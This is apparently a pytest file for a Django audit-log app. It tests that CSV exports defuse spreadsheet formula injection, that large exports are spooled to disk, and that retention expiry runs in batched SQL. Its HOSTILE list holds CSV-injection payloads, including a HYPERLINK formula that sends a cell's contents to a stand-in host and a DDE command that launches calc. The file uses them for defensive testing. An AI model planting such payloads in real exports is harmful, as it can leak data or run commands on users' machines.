"""The audit export's CSV cannot run formulas in a spreadsheet (OWASP CSV injection), and a
large export is written to spooled files, not memory (issue 13, issue 15 item 7)."""

import csv
import io
import os
import zipfile

import pytest

from apps.audit.exports import audit_export, verify_export
from apps.audit.models import AuditEvent, EventType, Outcome
from apps.audit.services import audit_record

pytestmark = pytest.mark.django_db

HOSTILE = ["=HYPERLINK(\"http://127.0.0.2/x?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tleading tab", "\rleading return"]


def _csv_rows(export) -> list[dict]:
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        return list(csv.DictReader(io.StringIO(archive.read("events.csv").decode())))


def test_csv_cells_that_a_spreadsheet_would_run_stay_text(member):
    for text in HOSTILE:
        audit_record(event_type=EventType.QUESTION_ASKED, outcome=Outcome.ANSWERED, actor=member,
                     payload={"question": text, "answer": text, "collections_searched": [1]})
    audit_record(event_type=EventType.QUESTION_ASKED, outcome=Outcome.ANSWERED, actor=member,
                 payload={"question": "What is the travel budget?", "answer": "42", "collections_searched": [1]})
    export = audit_export(events=AuditEvent.objects.filter(event_type=EventType.QUESTION_ASKED), filters={}, exported_by=None)
    rows = _csv_rows(export)
    assert [r["question"] for r in rows] == ["'" + t for t in HOSTILE] + ["What is the travel budget?"]
    assert all(r["answer"].startswith("'") for r in rows[:-1]) and rows[-1]["answer"] == "42"
    assert verify_export(export.content, trusted_public_key=os.environ["RAG_AUDIT_PIN"]) == []  # the JSON lines keep the exact text, and it all verifies


def test_a_large_export_spills_to_disk_instead_of_memory(member, monkeypatch):
    import os

    from apps.audit import exports

    monkeypatch.setattr(exports, "SPOOL_BYTES", 64 * 1024)  # 8 MiB in production; 64 KiB here
    for i in range(40):
        audit_record(event_type=EventType.QUESTION_ASKED, outcome=Outcome.ANSWERED, actor=member,
                     payload={"question": f"q{i}", "answer": os.urandom(4096).hex(), "collections_searched": [1]})
    export = audit_export(events=AuditEvent.objects.all(), filters={}, exported_by=None)
    assert export.file._rolled and export.size > 64 * 1024  # past the limit the zip lives on disk
    assert export.count == 40 and verify_export(export.content, trusted_public_key=os.environ["RAG_AUDIT_PIN"]) == []


@pytest.fixture
def checkpoint_dir(settings, tmp_path):
    settings.AUDIT_CHECKPOINT_DIR = str(tmp_path / "checkpoints")


@pytest.mark.django_db(transaction=True, serialized_rollback=True, databases=["default", "owner"])
def test_retention_expiry_selects_by_age_in_sql_and_works_in_batches(checkpoint_dir, settings):
    """`audit_expire` used to load every checkpointed event and test its age in Python, all
    in one transaction; now the age is part of the query and each batch commits alone."""
    from django.db import connections
    from django.test.utils import CaptureQueriesContext

    from apps.audit.checkpoints import audit_checkpoint_create
    from apps.audit.models import AuditTombstone
    from apps.audit.retention import audit_expire
    from apps.audit.verification import audit_verify_all

    settings.AUDIT_RETENTION_DAYS = {"auth": 0}  # the policy in force, signed into the head below
    auth = [audit_record(event_type=EventType.SIGN_IN_FAILED, outcome=Outcome.FAILED, payload={"username": f"u{i}"})
            for i in range(5)]
    questions = [audit_record(event_type=EventType.QUESTION_ASKED, outcome=Outcome.ANSWERED, payload={"question": f"q{i}"})
                 for i in range(3)]
    audit_checkpoint_create()
    with CaptureQueriesContext(connections["owner"]) as queries:  # expiry is the owner's
        removed = audit_expire(batch_size=2)
    assert removed == [e.sequence for e in auth]  # questions keep their 6 years
    assert not AuditEvent.objects.filter(sequence__in=removed).exists()
    assert AuditEvent.objects.filter(sequence__in=[q.sequence for q in questions]).count() == 3
    assert AuditEvent.objects.filter(event_type=EventType.AUDIT_EXPIRED).count() == 3  # 2 + 2 + 1
    assert AuditTombstone.objects.count() == 5
    selects = [q["sql"] for q in queries.captured_queries if q["sql"].startswith("SELECT") and '"audit_auditevent"."sequence" <=' in q["sql"]]
    assert selects and all('"created_at" <' in sql and "LIMIT 2" in sql for sql in selects)
    assert audit_verify_all().ok
